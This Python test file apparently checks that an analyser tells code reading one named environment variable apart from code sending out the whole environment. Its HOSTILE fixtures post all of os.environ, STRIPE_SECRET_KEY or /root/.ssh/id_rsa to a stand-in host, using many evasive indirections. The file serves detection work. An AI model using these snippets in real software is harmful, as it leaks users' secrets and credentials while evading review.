"""Python: a key by its name of a copy of the environment, and what only looks like one."""

from __future__ import annotations

import pytest
from support.variables import assert_all_are_sent, assert_one_is_read

NEEDS = "import json, os, requests\n"
ASK = "requests.get(env['BILLING_URL'] + '/x', headers={'auth': env.get('BILLING_TOKEN')})\n"
POST = "requests.post('https://x.invalid/', data=env['URL'])\n"
COPY = "env = dict(os.environ)\n"
HONEST: dict[str, dict[str, str]] = {
    "update": {"a.py": NEEDS + "env = {}\nenv.update(os.environ)\n" + ASK},
    "update file": {
        "a.py": NEEDS
        + (
            "env = {}\nif os.path.exists('a.env'):\n    for line in open('a.env'):\n"
            "        key, val = line.split('=', 1)\n        env[key] = val\nenv.update(os.environ)\n"
        )
        + ASK
    },
    "dict": {"a.py": NEEDS + COPY + ASK},
    "copy": {"a.py": NEEDS + "env = os.environ.copy()\n" + ASK},
    "spread": {"a.py": NEEDS + "env = {'BILLING_URL': 'https://a.invalid', **os.environ}\n" + ASK},
    "or": {"a.py": NEEDS + "env = {'BILLING_URL': 'https://a.invalid'} | os.environ\n" + ASK},
    "comp": {"a.py": NEEDS + "env = {k: v for k, v in os.environ.items() if k.startswith('BILLING')}\n" + ASK},
    "fn": {
        "a.py": NEEDS + "def load():\n    env = {}\n    env.update(os.environ)\n    return env\n\nenv = load()\n" + ASK
    },
    "fn2": {
        "a.py": NEEDS
        + (
            "from functools import lru_cache\n@lru_cache\ndef load():\n    return {**os.environ}\n\n"
            "requests.get(load()['BILLING_URL'])\n"
        )
    },
    "attr": {
        "a.py": NEEDS
        + "class C:\n    def __init__(self):\n        self."
        + COPY
        + (
            "    def go(self):\n        requests.get(self.env['BILLING_URL'], headers={'a': "
            "self.env.get('BILLING_TOKEN', '')})\n\nC().go()\n"
        )
    },
    "param": {"a.py": NEEDS + "def go(env):\n    " + ASK + "\ngo(dict(os.environ))\n"},
    "param default": {"a.py": NEEDS + "def go(env=os.environ):\n    " + ASK + "\ngo()\n"},
    "files": {"conf.py": "import os\n" + COPY, "a.py": NEEDS + "from conf import env\n" + ASK},
    "child": {
        "a.py": NEEDS + "import subprocess\n" + COPY + "env['LANG'] = 'C'\nsubprocess.run(['date'], env=env)\n" + ASK
    },
}
HOSTILE: dict[str, dict[str, str]] = {
    "whole": {"a.py": NEEDS + "env = {}\nenv.update(os.environ)\nrequests.post(env['BILLING_URL'], json=env)\n"},
    "whole2": {"a.py": NEEDS + COPY + "requests.post(env['BILLING_URL'], data=json.dumps(env))\n"},
    "put": {"a.py": NEEDS + COPY + "env['URL'] = json.dumps(dict(os.environ))\n" + POST},
    "put alias": {"a.py": NEEDS + COPY + "d = env\nd['URL'] = json.dumps(dict(os.environ))\n" + POST},
    "put fn": {"a.py": NEEDS + COPY + "def put(d):\n    d['URL'] = json.dumps(dict(os.environ))\nput(env)\n" + POST},
    "put update": {"a.py": NEEDS + COPY + "d = env\nd.update({'URL': json.dumps(dict(os.environ))})\n" + POST},
    "put update2": {"a.py": NEEDS + COPY + "d = env\nd.update(URL=json.dumps(dict(os.environ)))\n" + POST},
    "put update3": {
        "a.py": NEEDS
        + ("env = {}\nenv.update(URL=dict(os.environ))\nrequests.post('https://x.invalid/', json=env['URL'])\n")
    },
    "put chosen": {
        "a.py": NEEDS
        + (
            "import sys\nenv = {}\nenv[sys.argv[1]] = os.environ\n"
            "requests.post('https://x.invalid/', json=dict(env['URL']))\n"
        )
    },
    "put default": {"a.py": NEEDS + COPY + "d = env\nd.setdefault('URL', json.dumps(dict(os.environ)))\n" + POST},
    "put operator": {
        "a.py": NEEDS
        + "import operator\n"
        + COPY
        + "d = env\noperator.setitem(d, 'URL', json.dumps(dict(os.environ)))\n"
        + POST
    },
    "put dunder": {"a.py": NEEDS + COPY + "d = env\ndict.__setitem__(d, 'URL', json.dumps(dict(os.environ)))\n" + POST},
    "put dunder2": {"a.py": NEEDS + COPY + "d = env\nd.__setitem__('URL', json.dumps(dict(os.environ)))\n" + POST},
    "put dict update": {
        "a.py": NEEDS + COPY + "d = env\ndict.update(d, {'URL': json.dumps(dict(os.environ))})\n" + POST
    },
    "put ior": {"a.py": NEEDS + COPY + "d = env\nd |= {'URL': json.dumps(dict(os.environ))}\n" + POST},
    "put ior2": {"a.py": NEEDS + COPY + "env |= {'URL': json.dumps(dict(os.environ))}\n" + POST},
    "put loop": {"a.py": NEEDS + COPY + "d = env\nd['URL'] = ''\nfor k in list(env):\n    d['URL'] += env[k]\n" + POST},
    "put partial": {
        "a.py": NEEDS
        + "from functools import partial\n"
        + COPY
        + "partial(env.__setitem__, 'URL')(json.dumps(dict(os.environ)))\n"
        + POST
    },
    "put method": {"a.py": NEEDS + COPY + "f = env.__setitem__\nf('URL', json.dumps(dict(os.environ)))\n" + POST},
    "put map": {"a.py": NEEDS + COPY + "list(map(env.__setitem__, ['URL'], [json.dumps(dict(os.environ))]))\n" + POST},
    "spread put": {"a.py": NEEDS + "env = {**os.environ, 'URL': json.dumps(dict(os.environ))}\n" + POST},
    "dict kw": {"a.py": NEEDS + "env = dict(os.environ, URL=json.dumps(dict(os.environ)))\n" + POST},
    "dict pairs": {"a.py": NEEDS + "env = dict([('URL', json.dumps(dict(os.environ)))])\n" + POST},
    "comp": {
        "a.py": NEEDS
        + ("env = {'URL': [v for k, v in os.environ.items()]}\nrequests.post('https://x.invalid/', json=env['URL'])\n")
    },
    "comp2": {
        "a.py": NEEDS
        + ("env = {k: os.environ for k in ['URL']}\nrequests.post('https://x.invalid/', json=dict(env['URL']))\n")
    },
    "comp3": {
        "a.py": NEEDS
        + (
            "env = {k: v for k, v in {'URL': dict(os.environ)}.items()}\n"
            "requests.post('https://x.invalid/', json=env['URL'])\n"
        )
    },
    "box": {"a.py": NEEDS + "box = {'env': os.environ}\nrequests.post('https://x.invalid/', json=dict(box['env']))\n"},
    "box2": {
        "a.py": NEEDS + "box = {'env': dict(os.environ)}\nrequests.post('https://x.invalid/', json=box.get('env'))\n"
    },
    "box3": {
        "a.py": NEEDS
        + ("box = {}\nbox['env'] = dict(os.environ)\nrequests.post('https://x.invalid/', json=box.get('env'))\n")
    },
    "box4": {
        "a.py": NEEDS
        + (
            "class C: pass\nc = C()\nc.env = {}\nc.env['URL'] = dict(os.environ)\n"
            "requests.post('https://x.invalid/', json=c.env['URL'])\n"
        )
    },
    "loop": {
        "a.py": NEEDS + COPY + "t = ''\nfor k in env:\n    t += env[k]\nrequests.post('https://x.invalid/', data=t)\n"
    },
    "loop get": {"a.py": NEEDS + COPY + "requests.post('https://x.invalid/', data=''.join(env.get(k) for k in env))\n"},
    "values": {"a.py": NEEDS + COPY + "requests.post('https://x.invalid/', data=list(env.values()))\n"},
    "secret by name": {"a.py": NEEDS + COPY + "requests.post('https://x.invalid/', data=env['STRIPE_SECRET_KEY'])\n"},
    "secret by name get": {
        "a.py": NEEDS
        + ("env = {}\nenv.update(os.environ)\nrequests.post('https://x.invalid/', data=env.get('STRIPE_SECRET_KEY'))\n")
    },
    "secret attr": {
        "a.py": NEEDS
        + "class C:\n    def __init__(self):\n        self."
        + COPY
        + ("    def go(self):\n        requests.post('https://x.invalid', data=self.env['STRIPE_SECRET_KEY'])\n")
    },
    "decorated": {
        "a.py": NEEDS
        + (
            "def wrap(f):\n    def g():\n        return {'URL': json.dumps(dict(f()))}\n    return g\n"
            "@wrap\ndef load():\n    return dict(os.environ)\nenv = load()\n"
        )
        + POST
    },
    "fn args": {
        "a.py": NEEDS + "def load(e):\n    return {'URL': json.dumps(dict(e))}\nenv = load(os.environ)\n" + POST
    },
    "subclass": {
        "a.py": NEEDS
        + (
            "class D(dict):\n    def __getitem__(self, k):\n        return json.dumps(dict(self))\n"
            "env = D(os.environ)\n"
        )
        + POST
    },
    "format": {"a.py": NEEDS + COPY + "requests.post('https://x.invalid/', data='{e}'.format(e=env))\n"},
    "url params": {"a.py": NEEDS + COPY + "requests.get('https://x.invalid/', params=env)\n"},
    "files": {
        "conf.py": "import os\n" + COPY,
        "a.py": NEEDS + "from conf import env\nrequests.post('https://x.invalid', json=env)\n",
    },
    "files put": {
        "conf.py": "import os, json\n" + COPY + "d = env\nd['URL'] = json.dumps(dict(os.environ))\n",
        "a.py": NEEDS + "from conf import env\n" + POST,
    },
    "files put3": {
        "conf.py": "import os, json\n" + COPY,
        "c.py": "import os, json\nfrom conf import env\nenv['URL'] = json.dumps(dict(os.environ))\n",
        "a.py": NEEDS + "import c\nfrom conf import env\n" + POST,
    },
    "secret kept": {
        "a.py": NEEDS
        + ("d = {}\nd['k'] = open('/root/.ssh/id_rsa').read()\nrequests.post('https://x.invalid', data=d.get('k'))\n")
    },
}


@pytest.mark.parametrize("name", HONEST)
def test_one_variable_by_its_name_is_no_more_than_that(name: str) -> None:
    assert_one_is_read(HONEST[name])


@pytest.mark.parametrize("name", HOSTILE)
def test_all_variables_under_one_name_are_all_of_them(name: str) -> None:
    assert_all_are_sent(HOSTILE[name])
